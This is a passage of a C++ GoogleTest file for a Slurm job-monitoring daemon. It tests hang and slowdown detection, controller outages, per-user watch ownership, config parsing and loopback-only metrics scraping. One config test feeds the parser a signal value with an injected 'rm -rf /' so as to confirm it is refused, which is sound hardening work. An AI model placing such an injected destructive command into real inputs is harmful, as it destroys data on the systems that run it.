// slurm_job_monitor's core without Slurm: a job source that answers what
// the test says (or fails, as an unreachable controller), real log files
// the test appends to, a recording notifier and a clock the test moves.
// Also its config, discovery, file_sd targets, the heartbeat verdict, the
// state store's migration and the exporter scrape over loopback.

#include <gtest/gtest.h>
#include <netinet/in.h>
#include <prometheus/exposer.h>
#include <prometheus/gauge.h>
#include <prometheus/registry.h>
#include <sqlite3.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <optional>
#include <sstream>
#include <thread>

#include "daemon_test_fakes.h"
#include "jobmon/alerts/notifier.h"
#include "jobmon/common/tunnel.h"
#include "jobmon/monitor/diag_files.h"
#include "jobmon/monitor/discovery.h"
#include "jobmon/monitor/event_log.h"
#include "jobmon/monitor/heartbeat_classifier.h"
#include "jobmon/monitor/incident_picture.h"
#include "jobmon/monitor/monitor.h"
#include "jobmon/monitor/monitor_config.h"
#include "jobmon/monitor/scrape.h"
#include "jobmon/monitor/state_store.h"
#include "jobmon/slurm/nodes.h"
#include "loopback_listener.h"

namespace jobmon::monitor {
namespace {

using slurm::SlurmJob;

namespace fs = std::filesystem;

class TempDir {
 public:
  TempDir() {
    char pattern[] = "/tmp/jobmon-daemon-test-XXXXXX";
    path_ = mkdtemp(pattern);
  }
  ~TempDir() { fs::remove_all(path_); }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

using test_support::RecordingLog;
using test_support::RecordingNotifier;
using test_support::ScriptedSource;

SlurmJob Job(uint32_t id, const std::string& log, const std::string& state = "RUNNING") {
  SlurmJob j;
  j.job_id = id;
  j.name = "llama";
  j.user = "alice";
  j.state = state;
  j.partition = "gpu";
  j.std_out = log;
  j.node_list = "node[1-2]";
  return j;
}

void Append(const std::string& path, const std::string& text) {
  std::ofstream(path, std::ios::app) << text;
}

std::string Step(int64_t n) {
  return "0: completed step: " + std::to_string(n) + ", seconds: 1.000, loss: 2.0\n";
}

class MonitorTest : public ::testing::Test {
 protected:
  void SetUp() override {
    log_path = dir.path() + "/run-7.out";
    Append(log_path, "0: starting\n");
    config.state_db = dir.path() + "/state.db";
    config.select.partitions = {"gpu"};  // log-only monitoring of partition gpu
    config.slurm_poll_interval = 1;
    config.slurm_retries = 2;
    config.stall.min_stall_seconds = 30;
    config.stall.startup_grace_seconds = 300;
    source.jobs = {Job(7, log_path)};
    Reopen();
  }
  void Reopen() {
    monitor.reset();
    store.reset();
    store = std::move(StateStore::Open(config.state_db).value());
    monitor = std::make_unique<Monitor>(config, *store, source, notifier, log);
    ASSERT_TRUE(monitor->Restore(now).ok());
  }
  // Steps every second from `from` to `to`, one cycle per step.
  void Train(int64_t from, int64_t to) {
    for (int64_t s = from; s <= to; ++s) {
      Append(log_path, Step(s));
      now += 1;
      monitor->Cycle(now);
    }
  }
  std::vector<IncidentRecord> Incidents() { return store->Incidents(7).value(); }

  TempDir dir;
  std::string log_path;
  MonitorConfig config;
  ScriptedSource source;
  RecordingNotifier notifier;
  RecordingLog log;
  std::unique_ptr<StateStore> store;
  std::unique_ptr<Monitor> monitor;
  double now = 1'000'000;
};

TEST_F(MonitorTest, SelectedJobIsTrackedAndHealthyTrainingRaisesNothing) {
  Train(0, 60);
  EXPECT_EQ(monitor->stats().jobs_tracked, 1u);
  auto job = store->GetJob(7).value();
  ASSERT_TRUE(job);
  EXPECT_EQ(job->source, "config");
  EXPECT_TRUE(Incidents().empty());
  EXPECT_TRUE(notifier.sent.empty());
  EXPECT_EQ(store->GetProgress(7).value()->last_step, 60);
}

TEST_F(MonitorTest, StallOpensOneIncidentAndResumeClosesIt) {
  Train(0, 40);
  for (int i = 0; i < 29; ++i) monitor->Cycle(now += 1);
  EXPECT_TRUE(Incidents().empty()) << "29 s idle is below min_stall 30 s";
  for (int i = 0; i < 10; ++i) monitor->Cycle(now += 1);
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  EXPECT_EQ(incidents[0].klass, "hang");  // no exporters: no system evidence
  EXPECT_NE(incidents[0].summary.find("job without --diag"), std::string::npos);
  ASSERT_EQ(notifier.sent.size(), 1u);
  EXPECT_EQ(notifier.sent[0].status, "firing");
  EXPECT_EQ(notifier.sent[0].key, "cluster/7/hang");
  // The alert carries the triage of the log as it stands.
  EXPECT_NE(notifier.sent[0].report.find("Last step"), std::string::npos)
      << notifier.sent[0].report;
  EXPECT_NE(notifier.sent[0].report.find("40"), std::string::npos) << notifier.sent[0].report;
  EXPECT_NE(notifier.sent[0].report.find("**Status:** hanging"), std::string::npos)
      << "the triage agrees with the monitor's stall verdict\n"
      << notifier.sent[0].report;
  Train(41, 42);
  incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  EXPECT_EQ(incidents[0].state, "closed");
  EXPECT_EQ(incidents[0].close_reason, "resumed");
  ASSERT_EQ(notifier.sent.size(), 2u);
  EXPECT_EQ(notifier.sent[1].status, "resolved");
  EXPECT_EQ(notifier.sent[1].key, notifier.sent[0].key);
}

TEST_F(MonitorTest, RestartMidIncidentNeitherDuplicatesNorLosesIt) {
  Train(0, 40);
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(Incidents().size(), 1u);
  Reopen();  // the daemon restarts; the job is still hung
  for (int i = 0; i < 20; ++i) monitor->Cycle(now += 1);
  EXPECT_EQ(Incidents().size(), 1u);
  EXPECT_EQ(notifier.sent.size(), 1u);
  EXPECT_TRUE(log.Has("job_restored job=7"));
  Train(41, 41);  // and it resumes after the restart: the same incident closes
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  EXPECT_EQ(incidents[0].close_reason, "resumed");
  // The log was not re-read from the start after the restart.
  EXPECT_EQ(store->GetProgress(7).value()->last_step, 41);
}

// A restart while the controller is down and the job's log cannot be read
// (moved away, a mount not back yet): the stored last step is old, but the
// time since was not watched. Nothing opens until the log is read up to
// date, and the 80 steps it gained meanwhile say the job is fine.
TEST_F(MonitorTest, ARestartDuringAnOutageJudgesNothingItDidNotWatch) {
  Train(0, 40);
  monitor.reset();  // the daemon stops; the job trains on
  for (int64_t s = 41; s <= 120; ++s) Append(log_path, Step(s));
  now += 15;
  source.down = true;
  const std::string away = log_path + ".away";
  std::filesystem::rename(log_path, away);
  Reopen();
  for (int i = 0; i < 35; ++i) monitor->Cycle(now += 1);  // past min_stall, still blind
  EXPECT_TRUE(Incidents().empty()) << Incidents().front().summary;
  std::filesystem::rename(away, log_path);
  source.down = false;
  for (int i = 0; i < 3; ++i) monitor->Cycle(now += 1);
  EXPECT_TRUE(Incidents().empty()) << Incidents().front().summary;
  EXPECT_EQ(store->GetProgress(7).value()->last_step, 120);
  Train(121, 125);
  EXPECT_TRUE(Incidents().empty());
  // And a real hang after it is still caught, within the bound from then.
  for (int i = 0; i < 35; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(Incidents().size(), 1u);
  EXPECT_TRUE(Incidents()[0].klass.starts_with("hang")) << Incidents()[0].klass;
}

// An evaluation the job announces in its own words is a phase: no hang
// while it runs within its first-phase grace; jobmon status names it.
TEST_F(MonitorTest, AnAnnouncedEvaluationRaisesNoHang) {
  Train(0, 40);
  Append(log_path, "0: ***** Running Evaluation *****\n");
  for (int i = 0; i < 45; ++i) monitor->Cycle(now += 1);  // past min_stall 30 s
  EXPECT_TRUE(Incidents().empty()) << Incidents().front().summary;
  EXPECT_NE(store->GetProgress(7).value()->phase.find("in evaluation"), std::string::npos)
      << store->GetProgress(7).value()->phase;
  Train(41, 60);
  EXPECT_TRUE(Incidents().empty());
  EXPECT_EQ(store->GetProgress(7).value()->phase, "training");
}

TEST_F(MonitorTest, UnreachableControllerWarnsAndEndsNothing) {
  Train(0, 10);
  source.down = true;
  const int calls = source.calls;
  Train(11, 40);  // training goes on while Slurm does not answer
  EXPECT_GT(source.calls, calls + 2) << "retried";
  EXPECT_GT(monitor->stats().slurm_failures, 0u);
  EXPECT_FALSE(monitor->stats().slurm_reachable);
  EXPECT_TRUE(log.Has("slurm_unreachable"));
  EXPECT_TRUE(Incidents().empty());
  EXPECT_FALSE(store->GetJob(7).value()->ended_at);
  source.down = false;
  Train(41, 43);
  EXPECT_TRUE(log.Has("slurm_reachable_again"));
  EXPECT_TRUE(monitor->stats().slurm_reachable);
}

// Slurm 22.05's squeue with slurmctld down exits 0 with "errors" and no jobs
// (tests/fixtures/slurm/22.05/ctld-down-squeue-all.json): slurm/client.h makes
// that an error. An answer that is merely empty, while jobs are followed and
// none was seen ending, is not believed either until slurm_vanish_confirm;
// a long outage is alerted once and resolved when Slurm answers; a restart
// in the middle of it goes on from when it began.
TEST_F(MonitorTest, AnAnswerLackingEveryFollowedJobEndsNothingUntilConfirmed) {
  config.slurm_vanish_confirm = 30;
  config.slurm_outage_alert = 20;
  Reopen();
  Train(0, 10);
  source.jobs.clear();  // slurmctld restarting: an empty list, no errors
  Train(11, 35);
  EXPECT_FALSE(store->GetJob(7).value()->ended_at) << "an empty answer is not an end";
  EXPECT_TRUE(Incidents().empty());
  EXPECT_FALSE(monitor->stats().slurm_reachable);
  EXPECT_TRUE(log.Has("slurm_unreachable"));
  ASSERT_EQ(notifier.sent.size(), 1u) << "the outage, alerted once";
  EXPECT_EQ(notifier.sent[0].klass, "monitor/slurm-unreachable");
  EXPECT_EQ(notifier.sent[0].status, "firing");
  EXPECT_EQ(alerts::Title(notifier.sent[0]), "jobmon: monitor/slurm-unreachable");
  EXPECT_EQ(store->GetDaemonState("slurm_outage_alerted").value(), "1");
  Reopen();  // a restart during the outage
  Train(36, 38);
  EXPECT_EQ(notifier.sent.size(), 1u) << "not alerted again after the restart";
  // The controller is back; the job ended meanwhile and Slurm says how.
  source.jobs = {Job(7, log_path, "COMPLETED")};
  Train(39, 40);
  EXPECT_TRUE(monitor->stats().slurm_reachable);
  auto job = store->GetJob(7).value();
  ASSERT_TRUE(job->ended_at);
  EXPECT_EQ(job->slurm_state, "COMPLETED") << "its real final state, not RUNNING?";
  ASSERT_EQ(notifier.sent.size(), 2u);
  EXPECT_EQ(notifier.sent[1].klass, "monitor/slurm-unreachable");
  EXPECT_EQ(notifier.sent[1].status, "resolved");
  EXPECT_FALSE(store->GetDaemonState("slurm_unreachable_since").value());
}

TEST(SlurmOutage, FailedAnswersAVanishedListAndTheRecoveryAfter) {
  SlurmOutage outage(30, 20);
  EXPECT_TRUE(outage.Answered(100, 2, 2));
  EXPECT_FALSE(outage.unreachable());
  EXPECT_FALSE(outage.Recovering(100, 60)) << "no outage yet";
  outage.Failed(110, "squeue: Failed while looking for jobs");
  EXPECT_TRUE(outage.unreachable());
  EXPECT_EQ(outage.since(), 110);
  EXPECT_FALSE(outage.AlertDue(120));
  EXPECT_TRUE(outage.AlertDue(130));
  outage.MarkAlerted();
  EXPECT_FALSE(outage.AlertDue(140)) << "once";
  EXPECT_FALSE(outage.Answered(150, 2, 0)) << "every followed job missing: not believed";
  EXPECT_TRUE(outage.unreachable());
  EXPECT_TRUE(outage.Answered(160, 2, 1));
  EXPECT_FALSE(outage.unreachable());
  EXPECT_TRUE(outage.ResolveDue());
  EXPECT_TRUE(outage.Recovering(200, 60));
  EXPECT_FALSE(outage.Recovering(221, 60));
  // A list without the followed jobs for longer than the confirmation is believed.
  EXPECT_FALSE(outage.Answered(300, 1, 0));
  EXPECT_FALSE(outage.Answered(320, 1, 0));
  EXPECT_TRUE(outage.Answered(331, 1, 0));
}

// COMPLETING: the steps are over, the epilog runs (the archive can take a
// minute); the log stops as in a hang, and no hang is raised for it.
TEST_F(MonitorTest, AJobInCompletingRaisesNoStall) {
  Train(0, 40);
  source.jobs = {Job(7, log_path, "COMPLETING")};
  for (int i = 0; i < 60; ++i) monitor->Cycle(now += 1);
  EXPECT_TRUE(Incidents().empty());
  EXPECT_TRUE(log.Has("stall_not_raised"));
  source.jobs = {Job(7, log_path, "COMPLETED")};
  monitor->Cycle(now += 1);
  EXPECT_TRUE(store->GetJob(7).value()->ended_at);
  EXPECT_TRUE(Incidents().empty());
}

TEST_F(MonitorTest, AJobGoneForLongerThanTheConfirmationEnds) {
  config.slurm_vanish_confirm = 5;
  Reopen();
  Train(0, 10);
  source.jobs.clear();  // purged while the daemon looked away
  Train(11, 13);
  EXPECT_FALSE(store->GetJob(7).value()->ended_at);
  Train(14, 20);
  auto job = store->GetJob(7).value();
  ASSERT_TRUE(job->ended_at) << "believed after slurm_vanish_confirm";
  EXPECT_EQ(job->slurm_state, "RUNNING") << "the last state Slurm gave";
}

TEST_F(MonitorTest, JobEndRecordsTheTriageAndForgetsTheJobAfterRetention) {
  config.ended_retention = 10;
  Reopen();
  Train(0, 20);
  Append(log_path, "0: Traceback (most recent call last):\n0: ValueError: bad batch\n");
  source.jobs = {Job(7, log_path, "FAILED")};
  monitor->Cycle(now += 1);
  auto job = store->GetJob(7).value();
  ASSERT_TRUE(job->ended_at);
  EXPECT_NE(job->final_status, "completed");
  EXPECT_NE(job->final_status, "");
  EXPECT_EQ(job->final_class, "python-exception");
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  EXPECT_EQ(incidents[0].klass, "ended/python-exception");
  EXPECT_EQ(incidents[0].state, "closed");
  ASSERT_EQ(notifier.sent.size(), 1u);
  EXPECT_NE(notifier.sent[0].report.find("Traceback (most recent call last)"), std::string::npos)
      << "the triage report travels with the alert";
  for (int i = 0; i < 12; ++i) monitor->Cycle(now += 1);
  EXPECT_EQ(monitor->stats().jobs_tracked, 0u);
  Reopen();  // an ended job is not picked up again
  monitor->Cycle(now += 1);
  EXPECT_EQ(monitor->stats().jobs_tracked, 0u);
}

TEST_F(MonitorTest, WatchedJobOutsideTheSelectionIsTracked) {
  SlurmJob other = Job(8, dir.path() + "/other.out");
  other.partition = "cpu";
  source.jobs.push_back(other);
  monitor->Cycle(now += 1);
  EXPECT_FALSE(store->GetJob(8).value()) << "not selected, not watched";
  ASSERT_TRUE(store->AddWatch(8, now).ok());
  monitor->Cycle(now += 2);
  auto job = store->GetJob(8).value();
  ASSERT_TRUE(job);
  EXPECT_EQ(job->source, "watch");
  EXPECT_TRUE(store->Watches().value().empty()) << "the request is consumed";
}

// Through the socket API a user asks for a watch in their own name: the
// daemon follows the job only when Slurm says it is theirs.
TEST_F(MonitorTest, AUsersWatchHoldsForTheirOwnJobOnly) {
  SlurmJob mine = Job(8, dir.path() + "/mine.out");
  SlurmJob theirs = Job(9, dir.path() + "/theirs.out");
  mine.partition = theirs.partition = "cpu";
  mine.uid = mine.gid = 1000;
  theirs.uid = theirs.gid = 1001;
  source.jobs.push_back(mine);
  source.jobs.push_back(theirs);
  ASSERT_TRUE(store->AddWatch(8, now, 1000u).ok());
  ASSERT_TRUE(store->AddWatch(9, now, 1000u).ok());
  monitor->Cycle(now += 2);
  auto job = store->GetJob(8).value();
  ASSERT_TRUE(job);
  EXPECT_EQ(job->source, "watch");
  EXPECT_EQ(job->uid, std::optional<uint32_t>(1000)) << "the owner's uid is recorded";
  EXPECT_FALSE(store->GetJob(9).value()) << "uid 1000 asked for uid 1001's job";
  EXPECT_TRUE(store->Watches().value().empty()) << "both requests are consumed";
}

size_t LinesWith(const RecordingLog& log, const std::string& event) {
  return static_cast<size_t>(std::count_if(log.lines.begin(), log.lines.end(), [&](const auto& l) {
    return l.find(event) != std::string::npos;
  }));
}

// Watches were keyed by job id alone, so uid 1000's watch
// of uid 1001's job replaced root's, was refused as uid 1000's, and root's
// request was lost with it.
TEST_F(MonitorTest, AUsersWatchDoesNotReplaceAnAdminsWatch) {
  SlurmJob theirs = Job(9, dir.path() + "/theirs.out");
  theirs.partition = "cpu";
  theirs.uid = theirs.gid = 1001;
  source.jobs.push_back(theirs);
  ASSERT_TRUE(store->AddWatch(9, now).ok());
  ASSERT_TRUE(store->AddWatch(9, now, 1000u).ok());
  monitor->Cycle(now += 2);
  auto job = store->GetJob(9).value();
  ASSERT_TRUE(job) << "root's watch holds";
  EXPECT_EQ(job->source, "watch");
  EXPECT_TRUE(store->Watches().value().empty()) << "both requests are consumed";
}

// Each watch of a made-up job id cost one warning, so a
// user could fill the daemon's log; one line per cycle counts them.
TEST_F(MonitorTest, AFloodOfWatchesForUnknownJobsLogsOneLine) {
  for (uint32_t id = 5000; id < 5100; ++id) ASSERT_TRUE(store->AddWatch(id, now, 1000u).ok());
  monitor->Cycle(now += 2);
  EXPECT_EQ(LinesWith(log, "watch_unknown_job"), 1u);
  EXPECT_TRUE(log.Has("count=100")) << log.lines.back();
  EXPECT_TRUE(store->Watches().value().empty()) << "all dropped";
}

// The same for watches Slurm shows to be another user's jobs.
TEST_F(MonitorTest, AFloodOfRefusedWatchesLogsOneLine) {
  for (uint32_t id = 5000; id < 5050; ++id) {
    SlurmJob theirs = Job(id, dir.path() + "/theirs.out");
    theirs.partition = "cpu";
    theirs.uid = theirs.gid = 1001;
    source.jobs.push_back(theirs);
    ASSERT_TRUE(store->AddWatch(id, now, 1000u).ok());
  }
  monitor->Cycle(now += 2);
  EXPECT_EQ(LinesWith(log, "watch_refused"), 1u);
  EXPECT_TRUE(log.Has("count=50"));
  EXPECT_TRUE(store->Watches().value().empty()) << "all dropped";
  EXPECT_FALSE(store->GetJob(5000).value());
}

TEST_F(MonitorTest, SlowdownRaisesTgsDegradationNotAHang) {
  config.slowdown.window_seconds = 20;  // minutes in production; seconds here
  config.slowdown.min_steps = 10;
  Reopen();
  int64_t step = 0;
  for (; step < 40; ++step) {
    Append(log_path, Step(step));
    monitor->Cycle(now += 1);
  }
  for (; step < 60; ++step) {  // 1.5x slower from here
    Append(log_path, "0: completed step: " + std::to_string(step) + ", seconds: 1.500, loss: 2\n");
    now += 1.5;
    monitor->Cycle(now);
  }
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  EXPECT_EQ(incidents[0].klass, "tgs-degradation");
  EXPECT_NE(incidents[0].summary.find("1.50x"), std::string::npos) << incidents[0].summary;
}

// ------------------------------------------------------------------ pieces

TEST(TensorBoardProgress, TbStepDrivesAJobWhoseLogHasNoStepLines) {
  TempDir dir;
  const std::string log = dir.path() + "/custom.out";
  Append(log, "epoch 1 ... (a framework without a known step line)\n");
  triage::StallRule policy;
  policy.min_stall_seconds = 30;
  JobProgress progress(1, log, policy, 0);
  ASSERT_TRUE(progress.Poll(10).ok());
  MetricWindow window;
  Exposition scrape;
  scrape.samples = {{"tb_step", {{"host", "node1"}}, 40}, {"tb_step", {{"host", "node1"}}, 42}};
  window.AddScrape("node1", 20, scrape);
  auto latest = window.LatestOf("tb_step");
  ASSERT_TRUE(latest);
  EXPECT_EQ(latest->value, 42) << "the furthest event file, not a sum";
  progress.OnTensorBoardStep(static_cast<int64_t>(latest->value), latest->t);
  progress.OnTensorBoardStep(43, 25);
  ProgressState state = progress.Evaluate(30);
  EXPECT_EQ(state.last_step, 43);
  EXPECT_EQ(state.phase, Phase::kTraining);
  EXPECT_EQ(progress.Evaluate(56).phase, Phase::kStalled);
  // Once the log has step lines, they are the source.
  Append(log, "completed step: 100, seconds: 1.0\n");
  ASSERT_TRUE(progress.Poll(60).ok());
  progress.OnTensorBoardStep(500, 61);
  EXPECT_EQ(progress.Evaluate(62).last_step, 100);
}

TEST(MonitorConfig, DefaultsDurationsAndErrorsNamingTheKey) {
  auto defaults = ParseMonitorConfig("");
  ASSERT_TRUE(defaults.ok());
  EXPECT_EQ(defaults->poll_interval, 10);
  EXPECT_EQ(defaults->metrics_listen, "127.0.0.1:9188");
  auto parsed = ParseMonitorConfig(R"(
[monitor]
poll_interval = "2s"
slurm_poll_interval = 45
[monitor.stall]
min_stall = "1m30s"
k = 7
[monitor.select]
partitions = ["gpu"]
name_regex = "llama-.*"
)");
  ASSERT_TRUE(parsed.ok()) << parsed.error().message;
  EXPECT_EQ(parsed->poll_interval, 2);
  EXPECT_EQ(parsed->slurm_poll_interval, 45);
  EXPECT_EQ(parsed->stall.min_stall_seconds, 90);
  EXPECT_EQ(parsed->stall.k, 7);
  EXPECT_EQ(parsed->select.partitions, std::vector<std::string>{"gpu"});
  auto bad = ParseMonitorConfig("[monitor]\npoll_interval = \"soon\"\n", "x.toml");
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.error().message.find("x.toml: monitor.poll_interval"), std::string::npos);
  auto wild = ParseMonitorConfig("[monitor]\nmetrics_listen = \"0.0.0.0:9188\"\n");
  ASSERT_FALSE(wild.ok());
  EXPECT_NE(wild.error().message.find("loopback"), std::string::npos);
  EXPECT_FALSE(ParseMonitorConfig("[monitor.select]\nname_regex = \"(\"\n").ok());
  EXPECT_FALSE(ParseMonitorConfig("[monitor\n").ok());
}

// Hardening items 11 and 12: metrics_listen is one loopback address:port;
// civetweb would also bind what follows a comma (or take 's'/'r' suffixes).
TEST(MonitorConfig, MetricsListenIsExactlyOneLoopbackAddress) {
  for (const char* good :
       {"127.0.0.1:9188", "[::1]:9188", "127.0.0.2:1", "[::ffff:127.0.0.1]:9188"}) {
    EXPECT_TRUE(
        ParseMonitorConfig(std::string("[monitor]\nmetrics_listen = \"") + good + "\"\n").ok())
        << good;
    EXPECT_TRUE(ParseMetricsListen(good).ok()) << good;
  }
  for (const char* bad :
       {"127.0.0.1:1,0.0.0.0:2", "127.0.0.1:1,2", "127.0.0.1:9188s", "127.0.0.1:9188r",
        "127.0.0.1:+9188", "+9188", "9188", "[::ffff:0.0.0.0]:9188", "[::]:9188", "10.0.0.1:9188",
        "localhost:9188", "127.0.0.1:9188 "}) {
    auto parsed =
        ParseMonitorConfig(std::string("[monitor]\nmetrics_listen = \"") + bad + "\"\n", "x.toml");
    EXPECT_FALSE(parsed.ok()) << bad;
    if (!parsed.ok()) {
      EXPECT_NE(parsed.error().message.find("x.toml: monitor.metrics_listen"), std::string::npos);
    }
    EXPECT_FALSE(ParseMetricsListen(bad).ok()) << bad;
  }
}

// A misspelt key would leave its default in force silently.
TEST(MonitorConfig, UnknownKeysAreRefusedByName) {
  struct Case {
    const char* toml;
    const char* named;
  };
  // Unknown keys as "file:line: unknown key 'x' in [section]" (jobmon_config.h).
  for (const Case& c : {Case{"[monitor]\npoll_intervall = \"5s\"\n",
                             "x.toml:2: unknown key 'poll_intervall' in [monitor]"},
                        Case{"[monitor.stall]\nmin_stal = 30\n",
                             "x.toml:2: unknown key 'min_stal' in [monitor.stall]"},
                        Case{"[monitor.select]\nuser = [\"alice\"]\n",
                             "x.toml:2: unknown key 'user' in [monitor.select]"},
                        Case{"[monitor.selct]\nusers = [\"alice\"]\n",
                             "x.toml:1: unknown key 'selct' in [monitor]"},
                        Case{"[monitor]\nstall = 5\n", "x.toml: monitor.stall"}}) {
    auto parsed = ParseMonitorConfig(c.toml, "x.toml");
    ASSERT_FALSE(parsed.ok()) << c.toml;
    EXPECT_NE(parsed.error().message.find(c.named), std::string::npos) << parsed.error().message;
  }
  EXPECT_FALSE(ParseMonitorConfig("monitor = 1\n").ok());
  // Other sections are not the monitor's to judge.
  EXPECT_TRUE(ParseMonitorConfig("[triage]\nwhatever = 1\n[alerts]\nmax_backoff = 5\n").ok());
}

TEST(MonitorConfig, TheShippedExampleParsesToTheDefaults) {
  auto shipped = LoadMonitorConfig(JOBMON_SOURCE_DIR "/etc/jobmon.toml");
  ASSERT_TRUE(shipped.ok()) << shipped.error().message;
  MonitorConfig defaults;
  EXPECT_EQ(shipped->poll_interval, defaults.poll_interval);
  EXPECT_EQ(shipped->stall.min_stall_seconds, defaults.stall.min_stall_seconds);
  EXPECT_TRUE(shipped->select.Empty());
  // Every commented key, uncommented, is accepted as written.
  std::ifstream in(JOBMON_SOURCE_DIR "/etc/jobmon.toml");
  std::string text, line;
  bool in_monitor = false;
  while (std::getline(in, line)) {
    if (line.starts_with("["))
      in_monitor = line.starts_with("[monitor") || line.starts_with("[stall]") ||
                   line.starts_with("[recovery]");
    if (in_monitor && line.starts_with("# ") && line.find(" = ") != std::string::npos &&
        line.find(' ', 2) > line.find(" = ") - 1) {
      line = line.substr(2);
    }
    text += line + "\n";
  }
  auto uncommented = ParseMonitorConfig(text, "uncommented");
  ASSERT_TRUE(uncommented.ok()) << uncommented.error().message;
  EXPECT_EQ(uncommented->select.partitions, std::vector<std::string>{"gpu"});
  EXPECT_EQ(uncommented->stall.k, defaults.stall.k);
  EXPECT_EQ(uncommented->stall.first_phase_grace_seconds, defaults.stall.first_phase_grace_seconds);
  EXPECT_EQ(uncommented->slowdown.window_seconds, defaults.slowdown.window_seconds);
  EXPECT_EQ(uncommented->window_seconds, defaults.window_seconds);
  EXPECT_TRUE(uncommented->recovery.allowed.empty()) << "nothing allowed unless an admin says so";
  EXPECT_EQ(uncommented->recovery.classes, defaults.recovery.classes);
  EXPECT_EQ(uncommented->recovery.grace_seconds, defaults.recovery.grace_seconds);
  EXPECT_EQ(uncommented->recovery.checkpoint_wait_seconds,
            defaults.recovery.checkpoint_wait_seconds);
  EXPECT_EQ(uncommented->recovery.signal, defaults.recovery.signal);
  EXPECT_EQ(uncommented->recovery.max_requeues, defaults.recovery.max_requeues);
}

TEST(MonitorConfig, RecoveryBoundsAreCheckedAsAdminsWriteThem) {
  auto ok = ParseMonitorConfig(
      "[recovery]\nallowed = [\"requeue\", \"signal\"]\nsignal = \"SIGUSR2\"\ngrace = \"2m\"\n");
  ASSERT_TRUE(ok.ok()) << ok.error().message;
  EXPECT_EQ(ok->recovery.allowed, (std::vector<OnHang>{OnHang::kRequeue, OnHang::kSignal}));
  EXPECT_EQ(ok->recovery.signal, "USR2");
  EXPECT_EQ(ok->recovery.grace_seconds, 120);
  EXPECT_FALSE(ParseMonitorConfig("[recovery]\nallowed = [\"notify\"]\n").ok());
  EXPECT_FALSE(ParseMonitorConfig("[recovery]\nallowed = [\"reboot\"]\n").ok());
  EXPECT_FALSE(ParseMonitorConfig("[recovery]\nsignal = \"USR1; rm -rf /\"\n").ok());
  EXPECT_FALSE(ParseMonitorConfig("[recovery]\nmystery = 1\n").ok());
}

TEST(Discovery, DiagDirPatternSelectionAndPrecedence) {
  SlurmJob job = Job(42, "/shared/alice/out/run-42.out");
  EXPECT_EQ(DiagDirFor(job, "%o/jobmon-diag-%j"), "/shared/alice/out/jobmon-diag-42");
  EXPECT_EQ(DiagDirFor(job, "/diag/%u/%x-%j-%%"), "/diag/alice/llama-42-%");
  MonitorConfig config;
  auto none = [](const std::string&) { return false; };
  auto all = [](const std::string&) { return true; };
  EXPECT_FALSE(Discover(job, config, {}, none)) << "no manifest, no watch, no selection";
  EXPECT_EQ(Discover(job, config, {}, all)->source, "manifest");
  EXPECT_EQ(Discover(job, config, {42}, none)->source, "watch");
  config.select.users = {"alice"};
  config.select.name_regex = "ll.*";
  EXPECT_EQ(Discover(job, config, {}, none)->source, "config");
  EXPECT_TRUE(Discover(job, config, {}, none)->diag_dir.empty()) << "log only";
  config.select.name_regex = "gpt.*";
  EXPECT_FALSE(Discover(job, config, {}, none));
  job.state = "PENDING";
  EXPECT_FALSE(Discover(job, config, {42}, all)) << "nothing to follow before it starts";
}

TEST(Scrape, ConcurrentScrapesOneDeadlineForAStuckTarget) {
  auto registry = std::make_shared<prometheus::Registry>();
  prometheus::BuildGauge()
      .Name("hw_gpu_power_watts")
      .Register(*registry)
      .Add({{"gpu", "0"}})
      .Set(612);
  prometheus::Exposer exposer("127.0.0.1:0", 1);
  exposer.RegisterCollectable(registry);
  const std::string live = "127.0.0.1:" + std::to_string(exposer.GetListeningPorts().at(0));
  // A socket that accepts connections (the kernel's backlog) but never answers.
  const auto listener = jobmon::test_support::ListenOnLoopback(8);
  ASSERT_GE(listener.fd, 0);
  const int stuck = listener.fd;
  const std::string hung = listener.Address();
  const auto started = std::chrono::steady_clock::now();
  auto results = ScrapeAll({{"node1", live}, {"node2", hung}, {"node3", hung}}, 0.5);
  const double took =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
  close(stuck);
  ASSERT_EQ(results.size(), 3u);
  EXPECT_TRUE(results[0].ok) << results[0].error;
  EXPECT_NE(results[0].body.find("hw_gpu_power_watts{gpu=\"0\"} 612"), std::string::npos);
  EXPECT_FALSE(results[1].ok);
  EXPECT_FALSE(results[2].ok);
  EXPECT_LT(took, 1.5) << "two stuck targets share one 0.5 s deadline";
}

// An HTTP server that answers every request 20 ms after it arrived and
// records how many connections it ever had open at once.
class CountingServer {
 public:
  CountingServer() {
    const auto listener = jobmon::test_support::ListenOnLoopback(512, SOCK_NONBLOCK);
    listener_ = listener.fd;
    target_ = listener.Address();
    thread_ = std::thread([this] { Serve(); });
  }
  ~CountingServer() {
    stop_ = true;
    thread_.join();
    close(listener_);
  }
  const std::string& target() const { return target_; }
  size_t most_open() const { return most_open_; }
  size_t answered() const { return answered_; }

 private:
  struct Client {
    int fd;
    std::string request;
    std::optional<std::chrono::steady_clock::time_point> complete_at;
  };
  void Serve() {
    std::vector<Client> clients;
    while (!stop_) {
      for (int fd; (fd = accept4(listener_, nullptr, nullptr, SOCK_NONBLOCK)) >= 0;)
        clients.push_back({fd, "", std::nullopt});
      most_open_ = std::max(most_open_.load(), clients.size());
      const auto now = std::chrono::steady_clock::now();
      for (auto it = clients.begin(); it != clients.end();) {
        char buffer[1024];
        ssize_t n = read(it->fd, buffer, sizeof buffer);
        if (n > 0) it->request.append(buffer, static_cast<size_t>(n));
        if (!it->complete_at && it->request.find("\r\n\r\n") != std::string::npos)
          it->complete_at = now;
        if (n == 0 || (it->complete_at && now - *it->complete_at > std::chrono::milliseconds(20))) {
          if (n != 0) {
            const std::string answer =
                "HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nup 1\n\n";
            // Counted before it is sent: the client may read it and the
